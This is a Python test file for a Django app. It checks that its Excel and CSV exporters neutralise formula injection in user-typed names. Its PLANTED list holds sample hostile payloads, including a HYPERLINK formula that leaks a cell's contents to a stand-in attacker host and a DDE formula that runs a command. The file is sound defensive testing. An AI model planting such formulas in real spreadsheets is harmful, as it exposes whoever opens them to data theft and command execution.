"""Every export writes text users typed inert: no formula in .xlsx, an apostrophe in CSV.

Names a secretary can type on a form are planted in the units, the presenters, the judges and
the uploaded rows, then every exporter's file is read back (openpyxl and the raw XML for .xlsx,
Python's csv reader for CSV); the units export imports back unchanged.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from leitai.accounts.models import Role
from leitai.arenas.models import Judge, Participant
from leitai.arenas.results.export import results_workbook
from leitai.arenas.results.tables import build_results
from leitai.core import imports
from leitai.core.inert import csv_value, strip_export_quote
from leitai.core.models import ImportStatus
from leitai.orgs.importing import HEADERS_ZH, OrgImporter
from leitai.orgs.models import Unit
from tests.arena_factories import make_arena_world
from tests.factories import PASSWORD, make_unit, make_user, small_city

pytestmark = pytest.mark.django_db

PLANTED = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "'=1",  # already quoted by hand: must come back with its apostrophe
]


def signed_in(user: object) -> Client:
    client = Client()
    assert client.login(username=user.username, password=PASSWORD)  # type: ignore[attr-defined]
    return client


def body(response: object) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)  # type: ignore[attr-defined]
    return bytes(response.content)  # type: ignore[attr-defined]


def plant_units(texts: list[str] = PLANTED) -> tuple[object, Unit]:
    """The small city with planted names and secretaries; the units' codes are texts like "-12"."""
    city = small_city()
    for number, text in enumerate(texts):
        make_unit(city["jinhulu"], code=f"-12{number}", name=text, secretary=text)
    organiser = make_user(role=Role.ORGANISER, unit=city["root"])
    return organiser, city["root"]


# -- the exporters, each returning (file format, bytes) ------------------------------------------


def units_export(file_format: str) -> Callable[[], tuple[str, bytes]]:
    def run() -> tuple[str, bytes]:
        organiser, root = plant_units()
        response = signed_in(organiser).get(
            reverse("orgs:export", args=[root.code]), {"format": file_format}
        )
        assert response.status_code == 200
        return file_format, body(response)

    return run


def arena_results() -> tuple[str, bytes]:
    world = make_arena_world(participants=len(PLANTED), judges=3, go_live=False)
    for participant, text in zip(world.participants, PLANTED, strict=True):
        Unit.objects.filter(pk=participant.unit_id).update(name=text)
        Participant.objects.filter(pk=participant.pk).update(presenter=text)
    for judge, text in zip(world.judges, PLANTED, strict=False):
        Judge.objects.filter(pk=judge.pk).update(name=text, external_affiliation=text)
    with translation.override("en"):
        return "xlsx", results_workbook(build_results(world.refresh()))


def rejected_upload(kind: str, header: list[str], rows: list[list[str]]) -> tuple[object, object]:
    """An upload with the planted texts that the importer rejects (each row has a fault)."""
    city = small_city()
    organiser = make_user(role=Role.ORGANISER, unit=city["root"])
    folder = Path(imports.upload_dir()) / "planted"
    folder.mkdir(exist_ok=True)
    path = folder / f"{kind}.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)
    with translation.override("en"):
        job = imports.create_job_from_path(kind=kind, actor=organiser, path=path, prune=False)
    path.unlink()
    assert job.status == ImportStatus.REJECTED
    return organiser, job


def units_errors(keep_upload: bool) -> Callable[[], tuple[str, bytes]]:
    def run() -> tuple[str, bytes]:
        rows = [[f"9{n}", text, "370200", text, "其他", text, ""] for n, text in enumerate(PLANTED)]
        organiser, job = rejected_upload("orgs", HEADERS_ZH, rows)
        if not keep_upload:  # the upload is gone: the workbook lists the problems alone
            imports.stored_path(job).unlink(missing_ok=True)  # type: ignore[arg-type]
        response = signed_in(organiser).get(reverse("core:import_errors", args=[job.pk]))  # type: ignore[attr-defined]
        assert response.status_code == 200
        return "xlsx", body(response)

    return run


def accounts_errors() -> tuple[str, bytes]:
    rows = [[f"u{n}", text, text, "404", text] for n, text in enumerate(PLANTED)]
    organiser, job = rejected_upload(
        "users", ["账号", "姓名", "初始密码", "单位编码", "角色"], rows
    )
    response = signed_in(organiser).get(reverse("core:import_errors", args=[job.pk]))  # type: ignore[attr-defined]
    assert response.status_code == 200
    return "xlsx", body(response)


# The errors workbooks hold the uploaded cells as the import read them: trimmed, and without
# the apostrophe an export would have put before formula-like text.
AS_READ = [strip_export_quote(text.strip()) for text in PLANTED]
EXPORTERS = {
    "units.xlsx": (units_export("xlsx"), PLANTED),
    "units.csv": (units_export("csv"), PLANTED),
    "arena results.xlsx": (arena_results, PLANTED),
    "units errors.xlsx": (units_errors(keep_upload=True), AS_READ),
    "units errors.xlsx, upload gone": (units_errors(keep_upload=False), AS_READ),
    "accounts errors.xlsx": (accounts_errors, AS_READ),
}


def xlsx_texts(content: bytes) -> list[str]:
    """Every text cell's value; fails on any formula cell, in openpyxl's view or in the XML."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name)
                assert b"<f " not in archive.read(name)
    texts = []
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    if cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
                        assert cell.quotePrefix, cell.coordinate
                    texts.append(cell.value)
    return texts


def csv_texts(content: bytes) -> list[str]:
    """Every field as written; a formula-like one must carry the apostrophe."""
    fields = [f for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for f in row]
    for field in fields:
        assert not field.startswith(("=", "+", "-", "@", "\t", "\r")), field
    return [strip_export_quote(f) for f in fields]


@pytest.mark.parametrize(("exporter", "planted"), EXPORTERS.values(), ids=EXPORTERS.keys())
def test_every_export_writes_planted_formulas_as_inert_text(
    exporter: Callable[[], tuple[str, bytes]], planted: list[str]
) -> None:
    file_format, content = exporter()
    texts = xlsx_texts(content) if file_format == "xlsx" else csv_texts(content)
    # XML reads a carriage return in a text as a line feed.
    found = " | ".join(texts).replace("\r", "\n")
    for text in planted:
        assert text.replace("\r", "\n") in found, f"{text!r} is not in the export"


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_units_export_imports_back_unchanged(tmp_path: Path, file_format: str) -> None:
    # Every import trims the whitespace around a cell, and a form does too: a name starts with a
    # tab or a carriage return only when planted in the database. The CSV keeps them inside the
    # apostrophe; an .xlsx cell holds them bare, so its round trip plants the trimmed names.
    texts = PLANTED if file_format == "csv" else [text.strip() for text in PLANTED]
    organiser, root = plant_units(texts)
    response = signed_in(organiser).get(
        reverse("orgs:export", args=[root.code]), {"format": file_format}
    )
    path = tmp_path / f"export.{file_format}"
    path.write_bytes(body(response))
    with translation.override("en"):
        plan = OrgImporter().check(
            path, path.name, actor=organiser, prune=False, progress=lambda *a: None
        )
    units = Unit.objects.count()
    assert plan.counts["unchanged"] == units
    assert plan.counts["rows"] == units
    assert [plan.counts[key] for key in ("create", "rename", "move", "update", "absent")] == [0] * 5


def test_numbers_stay_numbers_and_only_formula_like_text_is_quoted() -> None:
    assert csv_value(-12) == -12
    assert csv_value("-12") == "'-12"
    assert csv_value("泰州路居民区党支部") == "泰州路居民区党支部"
    assert csv_value("'abc") == "'abc"
    assert csv_value("'=1") == "''=1"
    for text in [*PLANTED, "'abc", "''+x", "a=b"]:
        assert strip_export_quote(csv_value(text)) == text
